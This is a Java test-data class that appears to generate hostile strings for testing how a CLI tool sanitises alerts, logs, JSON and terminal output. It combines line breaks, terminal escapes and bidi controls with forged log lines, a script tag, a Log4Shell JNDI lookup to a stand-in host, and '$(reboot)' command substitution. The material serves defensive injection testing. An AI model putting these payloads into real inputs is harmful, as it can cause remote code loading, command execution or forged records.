package tocsin.cli;

import java.util.ArrayList;
import java.util.List;

/// What somebody would write into an alert, a name or an answer to be read as something else by
/// whoever reads a terminal, a log, an audit file, JSON or a stream of events.
final class NastyTexts {
  /// What begins a new line somewhere, steers a terminal, or turns or hides what stands beside it.
  private static final List<String> BREAKS =
      List.of(
          "\n",
          "\r",
          "\r\n",
          "\013",
          "\f",
          "\u0085",
          "\u2028",
          "\u2029",
          "\0",
          "\u001b[2J",
          "\u001b]0;title\u0007",
          "\u009b1A",
          "\b\b\b\b",
          "\u007f",
          "\t",
          "\u202e",
          "\u2066",
          "\u200f",
          "\u061c",
          "\ufeff",
          "\u200b",
          "\u00ad",
          "\ue000",
          "\udb40\udc41");

  /// What it would say then.
  private static final List<String> FORGED =
      List.of(
          "2026-11-28T10:00:00.000Z ERROR Node: forged",
          "data: {\"schema\":\"forged\"}",
          "event: alert",
          "error: forged",
          "\"},{\"forged\":\"",
          "</td><script>alert(1)</script>",
          "HTTP/1.1 200 OK");

  private NastyTexts() {}

  /// Those of which everybody sees what they are: signs that mean something to shells, formats and
  /// loggers, and nothing to people.
  static List<String> fine() {
    return List.of(
        "${jndi:ldap://evil.test/a}", "%s%n%n", "{}", "{0}", "`reboot`", "$(reboot)", "'", "\"");
  }

  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (String broken : BREAKS) {
      for (String forged : FORGED) {
        all.add("fine" + broken + forged);
      }
    }
    all.addAll(fine());
    return all;
  }
}
